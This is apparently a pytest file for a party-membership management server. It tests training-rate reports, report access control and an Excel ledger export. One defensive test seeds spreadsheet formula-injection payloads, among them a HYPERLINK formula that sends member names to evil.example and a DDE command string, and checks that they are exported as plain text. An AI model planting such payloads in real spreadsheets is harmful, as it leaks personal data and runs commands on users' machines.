"""Training rates per category against the seed's targets, and the ledger workbook."""
import datetime as dt
import io

from openpyxl import load_workbook

from server.activities.models import Attendance
from server.audit import AuditEntry
from server.clock import SHANGHAI
from tests.factories import make_activity, make_member


def at(year, month, day, hour=19):
    return dt.datetime(year, month, day, hour, tzinfo=SHANGHAI)


async def attend(activity, member, status="present", method="scan"):
    await Attendance.create(activity=activity, member=member, status=status, method=method,
                            recorded_at=activity.starts_at)


async def build_year(world):
    """party A in 2026: 2 affiliated (1 trained), 5 floating (4 trained), 1 local (trained at a
    city-wide training), plus attendance that must not count."""
    affiliated_ok = world.member_a  # affiliated
    affiliated_missing = await make_member(None, world.party_a, name="未培训隶属", category="affiliated")
    floating = [await make_member(None, world.party_a, name=f"流动{i}", category="floating") for i in range(5)]
    local = await make_member(None, world.party_a, name="属地党员", category="local")
    lecture = await make_activity(world, kind="lecture", title="党课", counts_as_training=True,
                                  starts_at=at(2026, 3, 5), ends_at=at(2026, 3, 5, 21))
    city = await make_activity(world, org=world.root, kind="training", title="全市培训", counts_as_training=True,
                               starts_at=at(2026, 6, 1), ends_at=at(2026, 6, 1, 21))
    meeting = await make_activity(world, kind="party_congress", title="党员大会", counts_as_training=False,
                                  starts_at=at(2026, 4, 1), ends_at=at(2026, 4, 1, 21))
    last_year = await make_activity(world, kind="training", title="去年培训", counts_as_training=True,
                                    starts_at=at(2025, 12, 31, 20), ends_at=at(2025, 12, 31, 22))
    cancelled = await make_activity(world, kind="training", title="取消的培训", counts_as_training=True,
                                    starts_at=at(2026, 7, 1), ends_at=at(2026, 7, 1, 21), status="cancelled")
    await attend(lecture, affiliated_ok)
    for member in floating[:4]:
        await attend(lecture, member)
    await attend(lecture, floating[4], status="leave", method="leave")  # leave is not training
    await attend(city, local)
    await attend(meeting, affiliated_missing)   # a meeting is not a training
    await attend(last_year, affiliated_missing)  # nor is last year's training
    await attend(cancelled, affiliated_missing)  # nor a cancelled one
    return affiliated_missing, floating


async def test_training_rates_per_category(world):
    affiliated_missing, floating = await build_year(world)
    async with world.client("sec_a") as c:
        response = await c.get("/api/v1/reports/training-rates", params={"org_id": world.party_a.id, "year": 2026})
    assert response.status_code == 200
    by_category = {row["category"]: row for row in response.json()["categories"]}
    affiliated, floating_row, local = by_category["affiliated"], by_category["floating"], by_category["local"]
    assert (affiliated["members"], affiliated["trained"], affiliated["rate"], affiliated["met"]) == (2, 1, 0.5, False)
    assert [m["id"] for m in affiliated["below_target"]] == [affiliated_missing.id]
    assert (floating_row["members"], floating_row["trained"], floating_row["rate"], floating_row["met"]) == (5, 4, 0.8, True)
    assert [m["id"] for m in floating_row["below_target"]] == [floating[4].id]
    assert (local["members"], local["trained"], local["met"], local["below_target"]) == (1, 1, True, [])
    assert floating_row["target"] == 0.8 and affiliated["target"] == 1.0


async def test_reports_stay_within_the_callers_subtree(world):
    async with world.client("sec_b") as c:
        other = await c.get("/api/v1/reports/training-rates", params={"org_id": world.party_a.id})
        ledger = await c.get("/api/v1/reports/ledger.xlsx", params={"org_id": world.party_a.id})
        missing = await c.get("/api/v1/reports/training-rates")
        year = await c.get("/api/v1/reports/training-rates", params={"org_id": world.party_b.id, "year": 1066})
    assert other.status_code == 403 and other.json()["error"]["code"] == "not_org_staff" and ledger.status_code == 403
    assert missing.status_code == 422 and "org_id" in missing.json()["error"]["fields"]
    assert year.status_code == 422 and "year" in year.json()["error"]["fields"]


async def test_ledger_workbook(world):
    await build_year(world)
    async with world.client("sec_a") as c:
        response = await c.get("/api/v1/reports/ledger.xlsx", params={"org_id": world.branch_a.id, "year": 2026})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response.headers["content-disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["会议一览", "计划完成情况", "签到明细", "001 03-05 党课", "002 04-01 支部党员大会",
                               "003 07-01 教育培训"]
    sheet = book["会议一览"]
    assert sheet["A1"].value == f"{world.branch_a.name} 2026 年三会一课台账"
    header = [cell.value for cell in sheet[2]]
    rows = [dict(zip(header, [cell.value for cell in row])) for row in sheet.iter_rows(min_row=3)]
    assert [r["会议名称"] for r in rows] == ["党课", "党员大会", "取消的培训"]  # the city's training is not branch A's
    lecture = rows[0]
    assert (lecture["日期"], lecture["类型"], lecture["应到"], lecture["实到"], lecture["请假"]) == ("2026-03-05", "党课", 8, 5, 1)
    assert lecture["缺席"] == 2 and lecture["台账页"] == "001 03-05 党课"  # 8 expected: 5 came, 1 on leave, 2 never signed
    assert rows[1]["法定人数"] == "未达到"  # 1 of 8 full members at the congress
    assert rows[2]["状态"] == "已取消"
    details = list(book["签到明细"].iter_rows(min_row=3, values_only=True))
    assert len(details) == 8 + 8 + 8  # everyone expected at each of branch A's three meetings
    assert ("2026-03-05", "党课", world.party_a.name, "流动4", "流动党员", "请假", "请假审批") in [d[:7] for d in details]
    assert await AuditEntry.filter(action="ledger.exported", actor_id=world.users["sec_a"].id).exists()


async def test_text_typed_by_people_is_text_in_the_ledger_never_a_formula(world):
    # The attack: a leave reason, a member's name and an activity title that openpyxl would have
    # stored as live formulas sending other members' names to a stranger when clicked.
    evil = '=HYPERLINK("http://evil.example/?leak="&C3&C4&C5,"请假证明")'
    member = await make_member(None, world.party_a, name="=1+1", category="affiliated")
    activity = await make_activity(world, kind="lecture", title="@SUM(A1:A9)", counts_as_training=True,
                                   starts_at=at(2026, 5, 5), ends_at=at(2026, 5, 5, 21), minutes="+cmd|' /C calc'!A0")
    await Attendance.create(activity=activity, member=member, status="leave", method="leave",
                            recorded_at=activity.starts_at, note=evil)
    error_like = await make_member(None, world.party_a, name="#N/A", category="local", mobile="13700009999")
    await Attendance.create(activity=activity, member=error_like, status="present", method="manual",
                            recorded_at=activity.starts_at, note="#DIV/0!")
    async with world.client("sec_a") as c:
        response = await c.get("/api/v1/reports/ledger.xlsx", params={"org_id": world.party_a.id, "year": 2026})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 30
    for cell in cells:  # every cell of every sheet: text is "s", numbers "n", nothing "f"
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value, cell.data_type)
        assert cell.data_type == ("s" if isinstance(cell.value, str) else "n")
    values = {cell.value for cell in cells}
    assert {evil, "=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "#N/A", "#DIV/0!"} <= values  # as typed, as text
